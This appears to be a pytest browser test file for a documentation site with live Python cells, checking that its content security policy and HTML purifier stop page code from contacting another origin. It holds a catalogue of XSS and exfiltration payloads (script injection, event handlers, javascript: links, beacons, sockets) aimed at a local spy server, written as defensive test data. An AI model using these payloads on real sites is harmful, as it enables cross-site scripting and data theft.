"""Code that runs in a page stays in it: no other origin hears of it, nothing that the origin stores is reached.

A second origin listens on this machine. A page without a policy shows first that it hears well.
"""

import functools
import http.server
import threading
import time

import pytest

from tests.site.reader import wait_until


class Spy(http.server.BaseHTTPRequestHandler):
    """Answers everything, to everybody, and remembers that it was asked."""

    def do_GET(self):
        self.server.heard.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Cross-Origin-Resource-Policy", "cross-origin")
        self.send_header("Content-Type", "text/javascript")
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_HEAD = do_OPTIONS = do_GET

    def log_message(self, *arguments):
        """What was heard is in the list."""


@pytest.fixture(scope="module")
def spy():
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Spy) as server:
        server.heard = []
        server.url = f"http://127.0.0.1:{server.server_port}/"
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


@pytest.fixture(autouse=True)
def fresh(request, spy):
    """Each test begins with nothing heard, and with a page that runs."""
    spy.heard.clear()
    if "live" in request.fixturenames:
        live = request.getfixturevalue("live")
        live.press("reset")
        wait_until(lambda: live.status.startswith("Reset"), lambda: f"reset ({live.status})")
        yield
        live.foreign.clear()  # what was tried and stopped
    else:
        yield


# What a page could do to tell another origin something.
TELL = """(spy) => {
  fetch(spy + "fetch", { mode: "no-cors" }).catch(() => {});
  const xhr = new XMLHttpRequest(); xhr.open("GET", spy + "xhr"); xhr.send();
  new WebSocket(spy.replace("http", "ws") + "websocket");
  new EventSource(spy + "eventsource");
  navigator.sendBeacon(spy + "beacon", "x");
  const worker = `importScripts(${JSON.stringify(spy + "importscripts")});
                  fetch(${JSON.stringify(spy + "worker")}, { mode: "no-cors" });`;
  new Worker(URL.createObjectURL(new Blob([worker])));
  const box = document.createElement("div");
  box.innerHTML = `<img src="${spy}img"><iframe src="${spy}iframe"></iframe>
    <link rel="stylesheet" href="${spy}stylesheet"><object data="${spy}object"></object>
    <video src="${spy}video"></video><p style="background: url(${spy}background)">x</p>
    <form action="${spy}form" target="there"><button>x</button></form><iframe name="there"></iframe>`;
  document.body.append(box);
  box.querySelector("form").submit();
}"""
WAYS = {"fetch", "xhr", "websocket", "eventsource", "beacon", "importscripts", "worker", "img", "iframe", "stylesheet",
        "object", "video", "background", "form"}


def ways(spy):
    return {line.split()[1].strip("/?") for line in spy.heard}


@pytest.fixture
def open_url(tmp_path):
    """A page without a policy, on a host that isolates nothing."""
    (tmp_path / "open.html").write_text("<!DOCTYPE html><title>open</title><link rel=icon href='data:,'>")

    class Plain(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *arguments):
            """It is asked for one page."""

    handler = functools.partial(Plain, directory=str(tmp_path))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()


def test_the_spy_hears_a_page_without_a_policy_in_every_way(spy, read, open_url):
    read(open_url, "open.html").page.evaluate(TELL, spy.url)
    wait_until(lambda: ways(spy) >= WAYS, lambda: f"heard in every way, missing {WAYS - ways(spy)}", 10)


@pytest.mark.parametrize("path", ["cells.html", "words.html", "search.html", "genindex.html", "404.html"])
def test_it_hears_nothing_of_any_page_of_the_book(path, spy, read, awkward_url):
    reader = read(awkward_url, path)
    reader.page.evaluate("""() => {
      window.stopped = new Set();
      document.addEventListener("securitypolicyviolation", (event) => window.stopped.add(event.effectiveDirective));
    }""")
    reader.page.evaluate(TELL, spy.url)
    time.sleep(1)
    assert spy.heard == []
    stopped = set(reader.page.evaluate("[...window.stopped]"))
    assert stopped >= {"connect-src", "img-src", "frame-src", "style-src-elem", "object-src", "media-src",
                       "form-action"}


def test_a_script_that_was_not_there_when_the_page_was_built_does_not_run(read, awkward_url):
    reader = read(awkward_url, "words.html")
    reader.page.evaluate("""() => {
      window.ran = [];
      const script = document.createElement("script");
      script.textContent = "window.ran.push('script')";
      document.head.append(script);
      document.body.insertAdjacentHTML("beforeend", '<button id="b" onclick="window.ran.push(1)">x</button>');
      document.getElementById("b").click();
      try { setTimeout("window.ran.push('text')"); } catch { /* stopped, which is right, too */ }
      setTimeout(() => window.ran.push("function"));
    }""")
    wait_until(lambda: reader.page.evaluate("window.ran").count("function"), "the function")
    assert reader.page.evaluate("window.ran") == ["function"]


def test_the_buttons_of_the_theme_work_without_inline_handlers(read, awkward_url):
    reader = read(awkward_url, "cells.html")
    reader.page.evaluate("() => { window.print = () => { window.printed = true; }; }")
    reader.page.locator("[data-press=print]").evaluate("(button) => button.click()")
    assert reader.page.evaluate("window.printed") is True
    reader.page.locator("[data-press=full-screen]").click()
    wait_until(lambda: reader.page.evaluate("Boolean(document.fullscreenElement)"), "full screen")
    assert reader.complaints == []


# Each line is tried by itself; whether it raises is its own affair, as long as nobody hears of it.
PYTHON = """
import asyncio, time
SPY = "{spy}"
def try_(name, action):
    try:
        action()
        print("tried", name)
    except BaseException as error:
        print("failed", name, type(error).__name__)

def js_(name):
    import js
    return getattr(js, name)

def worker(address):
    return js_("Worker").new(address)

def run(code):
    from pyodide.code import run_js
    return run_js(code)

def pyfetch():
    from pyodide.http import pyfetch
    asyncio.ensure_future(pyfetch(SPY + "pyfetch"))

def open_url():
    from pyodide.http import open_url
    open_url(SPY + "open_url")

def urllib_():
    import urllib.request
    urllib.request.urlopen(SPY + "urllib", timeout=1)

def socket_():
    import socket
    socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(b"GET /socket HTTP/1.0\\r\\n\\r\\n")

def xhr():
    request = js_("XMLHttpRequest").new()
    request.open("GET", SPY + "xhr")
    request.send()

def blob_worker():
    parts = js_("Array").of("fetch('" + SPY + "nested', {{ mode: 'no-cors' }})")
    worker(js_("URL").createObjectURL(js_("Blob").new(parts)))

try_("fetch", lambda: js_("fetch")(SPY + "fetch"))
try_("xhr", xhr)
try_("websocket", lambda: js_("WebSocket").new(SPY.replace("http", "ws") + "websocket"))
try_("eventsource", lambda: js_("EventSource").new(SPY + "eventsource"))
try_("beacon", lambda: js_("navigator").sendBeacon(SPY + "beacon", "x"))
try_("webtransport", lambda: js_("WebTransport").new(SPY.replace("http:", "https:") + "webtransport"))
try_("importscripts", lambda: js_("importScripts")(SPY + "importscripts"))
try_("worker elsewhere", lambda: worker(SPY + "worker"))
try_("worker of this site", lambda: worker("{site}_static/live/worker.js"))
try_("worker of a blob", blob_worker)
try_("script", lambda: run("fetch('" + SPY + "script', {{ mode: 'no-cors' }})"))
try_("function", lambda: js_("Function").new("fetch('" + SPY + "function', {{ mode: 'no-cors' }})")())
try_("pyfetch", pyfetch)
try_("open_url", open_url)
try_("urllib", urllib_)
try_("socket", socket_)
try_("font", lambda: js_("FontFace").new("f", "url(" + SPY + "font)").load())
end = time.time() + 0.5
while time.time() < end: pass
"""


def test_python_in_the_page_cannot_tell_another_origin_anything(spy, live):
    cell = live.cells[0]
    cell.edit(PYTHON.format(spy=spy.url, port=spy.server_port, site=live.url)).run()
    assert len(cell.text.strip().splitlines()) == 17, cell.text
    time.sleep(1)
    assert spy.heard == []
    assert "failed script" in cell.text and "failed function" in cell.text


HTML = """
class Shown:
    def _repr_html_(self):
        return '''{}'''
Shown()
"""
EVIL = """<style>@import url("{spy}import"); body {{ display: none }} p {{ background: url({spy}style) }}</style>
<table class="dataframe" style="width: 50%"><tr><td id="kept">one</td></tr></table><p>words</p>
<img src="{spy}img"><img src="x" onerror="window.ran = 1"><img srcset="{spy}srcset 2x">
<svg onload="window.ran = 2"><script>window.ran = 3</script><image href="{spy}image"/><use href="{spy}use#a"/>
<circle r="5" fill="url({spy}paint)"/><foreignObject><iframe src="{spy}foreign"></iframe></foreignObject></svg>
<script>window.ran = 4</script><script src="{spy}script"></script>
<iframe src="{spy}iframe" srcdoc="&lt;script>parent.ran = 5&lt;/script>"></iframe>
<object data="{spy}object"></object><embed src="{spy}embed"><base href="{spy}">
<meta http-equiv="refresh" content="0; url={spy}refresh">
<link rel="stylesheet" href="{spy}link"><link rel="prefetch" href="{spy}prefetch">
<link rel="dns-prefetch" href="{spy}"><link rel="preconnect" href="{spy}">
<form action="{spy}form"><input name="a" autofocus onfocus="window.ran = 6"><button data-live="start">x</button></form>
<video src="{spy}video" poster="{spy}poster" autoplay></video><audio src="{spy}audio"></audio>
<details open ontoggle="window.ran = 7">d</details><math><mtext><img src="{spy}math"></mtext></math>
<p style="background: url({spy}background); position: fixed; inset: 0">cover</p>
<a id="code" href="javascript:window.ran = 8">code</a><a id="away" href="{spy}away" ping="{spy}ping">away</a>"""


def test_html_that_python_shows_is_without_scripts_forms_and_loads(spy, live):
    cell = live.cells[0]
    address = live.page.url
    cell.edit(HTML.format(EVIL.format(spy=spy.url))).run()
    box = cell.output.locator(".live-html")
    wait_until(lambda: box.locator("td").count() == 1, "the table")
    time.sleep(1)
    assert spy.heard == []
    assert live.page.evaluate("window.ran") is None
    assert live.page.url == address
    active = "script, iframe, object, embed, form, input, button, link, meta, base, video, audio"
    assert box.locator(active).count() == 0
    assert box.locator("[onerror], [onload], [ontoggle], [data-live], [ping]").count() == 0
    assert box.locator("a#code").get_attribute("href") is None
    box.locator("a#code").click()
    assert live.page.evaluate("window.ran") is None
    # What a table needs is there, and what it says of the whole page is not.
    assert box.locator("td").text_content() == "one"
    assert box.locator("table").evaluate("(e) => e.getBoundingClientRect().width / e.parentElement.clientWidth") < 0.6
    assert live.page.evaluate("getComputedStyle(document.body).display") != "none"
    cover = box.get_by_text("cover").evaluate("(e) => { const box = e.closest('.live-html').getBoundingClientRect(), "
                                              "r = e.getBoundingClientRect(); return r.top >= box.top - 1; }")
    assert cover, "an output lies over the page"


def test_a_link_in_an_output_leaves_the_page_alone(spy, live):
    cell = live.cells[0]
    cell.edit(HTML.format(f'<a href="{spy.url}away" ping="{spy.url}ping">away</a>')).run()
    link = cell.output.locator(".live-html a")
    wait_until(lambda: link.count() == 1, "the link")
    assert (link.get_attribute("target"), link.get_attribute("rel")) == ("_blank", "noopener noreferrer")
    with live.context.expect_page() as opened:
        link.click()
    opened.value.close()
    assert "ping" not in ways(spy)
    assert live.state == "ready"


def test_a_table_with_a_style_sheet_of_its_own_looks_like_it_and_changes_no_other(live):
    cell = live.cells[0]
    cell.edit(HTML.format("<style scoped>.dataframe td { color: rgb(1, 2, 3) } } body { color: red }</style>"
                          "<style>.dataframe th { color: rgb(4, 5, 6); } td { font-weight: 700 }</style>"
                          "<table class=dataframe><tr><th>a</th><td>b</td></tr></table>")).run()
    box = cell.output.locator(".live-html")
    wait_until(lambda: box.locator("td").count() == 1, "the table")
    assert box.locator("th").evaluate("(e) => getComputedStyle(e).color") == "rgb(4, 5, 6)"
    assert box.locator("td").evaluate("(e) => getComputedStyle(e).fontWeight") == "700"
    assert box.locator("td").evaluate("(e) => getComputedStyle(e).color") != "rgb(1, 2, 3)"  # a brace too many
    assert live.page.evaluate("getComputedStyle(document.body).color") != "rgb(255, 0, 0)"


def test_a_picture_in_svg_keeps_its_shapes_and_references(live):
    cell = live.cells[0]
    cell.edit('class Shown:\n    def _repr_svg_(self):\n        return \'\'\'<svg xmlns="http://www.w3.org/2000/svg" '
              'width="40" height="20"><defs><clipPath id="c"><rect width="20" height="20"/></clipPath></defs>'
              '<g clip-path="url(#c)"><path d="M0 0h40v20z" style="fill: #123456"/></g></svg>\'\'\'\nShown()').run()
    path = cell.output.locator(".live-html svg path")
    wait_until(lambda: path.count() == 1, "the picture")
    assert path.evaluate("(e) => getComputedStyle(e).fill") == "rgb(18, 52, 86)"
    assert path.evaluate("(e) => e.parentElement.getAttribute('clip-path')") == "url(#c)"


def test_without_the_purifier_html_is_shown_as_text(live):
    live.page.evaluate("() => document.querySelectorAll('.live-html').forEach((e) => e.remove())")
    script = """async () => {
      const { htmlBox } = await import(new URL("_static/live/html.js?apart", document.baseURI).href);
      const box = htmlBox("<b>bold</b>", "the text");
      document.body.append(box);
      await new Promise((resolve) => setTimeout(resolve, 500));
      const text = box.textContent;
      box.remove();
      return text;
    }"""
    live.context.route("**/purify.js", lambda route: route.abort())
    try:
        live.page.evaluate("() => { delete globalThis.DOMPurify; }")
        text = live.page.evaluate(script)
    finally:
        live.context.unroute("**/purify.js")
    assert text.startswith("the text") and "purify.js could not be loaded" in text


@pytest.mark.parametrize("message", [
    "{ type: 'nonsense' }", "{ type: '__proto__' }", "{}", "'text'",
    "{ type: 'message', operation: 10 ** 9, message: { type: 'data', data: { 'text/html': '<b>x</b>' } } }",
    "{ type: 'done', operation: 10 ** 9, status: 'ok' }",
])
def test_messages_that_the_page_does_not_expect_do_nothing(message, live):
    live.complaints.clear()
    live.page.evaluate(f"""async () => {{
      const {{ page }} = await import(document.querySelector('script[src*="live/main.js"]').src);
      page.engine.worker.onmessage({{ data: {message} }});
    }}""")
    live.cells[5].run()
    assert "42" in live.cells[5].text
    assert live.complaints == []
    assert live.page.evaluate("window.ran") is None
